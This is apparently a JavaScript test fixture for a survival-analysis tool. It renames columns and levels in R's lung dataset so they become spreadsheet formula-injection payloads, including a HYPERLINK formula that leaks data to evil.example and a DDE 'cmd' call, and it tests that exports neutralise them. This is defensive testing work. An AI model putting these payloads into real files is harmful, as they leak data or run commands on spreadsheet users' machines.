// R's lung data with hostile names and levels, for the spreadsheet-formula
// tests (tests/node/tables.test.mjs and tests/browser/safety.test.mjs): every
// name and level that reaches a table is something Excel, LibreOffice or
// Google Sheets would run as a formula or DDE call, next to levels that look
// like numbers and must stay numbers.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');

export const HOSTILE = {
  group: '=HYPERLINK("http://evil.example/?leak","click")',
  age: "+cmd|' /C calc'!A0",
  ecog: '@SUM(1+1)',
  weight: '-2+3',
  sexLevels: { 1: '=1+1', 2: '-SUM(A1)' },
  // ph.ecog 0..3: a formula, a negative number, a formula after a space, a plus-signed number.
  ecogLevels: { 0: '@A1', 1: '-0.52', 2: ' =2+2', 3: '+3' },
};

function csvField(s) {
  return /[",\r\n\s]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** lung.csv with sex, age, ph.ecog and wt.loss renamed and sex / ph.ecog recoded as above. */
export function hostileLungCsv() {
  const [header, ...lines] = fs.readFileSync(path.join(root, 'tests/reference/datasets/lung.csv'), 'utf8').trimEnd().split('\n');
  const names = header.split(',');
  const rename = { sex: HOSTILE.group, age: HOSTILE.age, 'ph.ecog': HOSTILE.ecog, 'wt.loss': HOSTILE.weight };
  const iSex = names.indexOf('sex');
  const iEcog = names.indexOf('ph.ecog');
  const out = [names.map((n) => csvField(rename[n] ?? n)).join(',')];
  for (const line of lines) {
    const cells = line.split(',');
    cells[iSex] = csvField(HOSTILE.sexLevels[cells[iSex]]);
    if (cells[iEcog] !== '') cells[iEcog] = csvField(HOSTILE.ecogLevels[cells[iEcog]]);
    out.push(cells.join(','));
  }
  return `${out.join('\n')}\n`;
}

/** A spec on that file: Table 1, KM, log-rank, Cox, matching (SMDs below zero) and subgroups. */
export function hostileSpec() {
  return {
    version: 1,
    time: { column: 'time', unit: 'days' },
    event: { column: 'status', values: [2] },
    group: { column: HOSTILE.group },
    covariates: [HOSTILE.age, { column: HOSTILE.ecog, type: 'factor' }, HOSTILE.weight],
    analyses: {
      table1: {},
      km: { times: [180, 365] },
      logrank: { by: [HOSTILE.ecog] },
      cox: {},
      matching: { caliper: 0.2 },
      subgroups: { variables: [HOSTILE.ecog] },
    },
  };
}

/** Independent of web/tables.js: would a spreadsheet read this cell as a formula? */
export function readAsFormula(cell) {
  if (/^[\t\r]/.test(cell)) return true;
  const t = cell.trim();
  return /^[=+\-@]/.test(t) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(t);
}

/** A small RFC 4180 reader (CRLF records), to read back an exported CSV. */
export function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
      else if (ch === '"') (quoted = false), i++;
      else (field += ch), i++;
    } else if (ch === '"') (quoted = true), i++;
    else if (ch === ',') row.push(field), (field = ''), i++;
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), (i += 2);
    else (field += ch), i++;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}
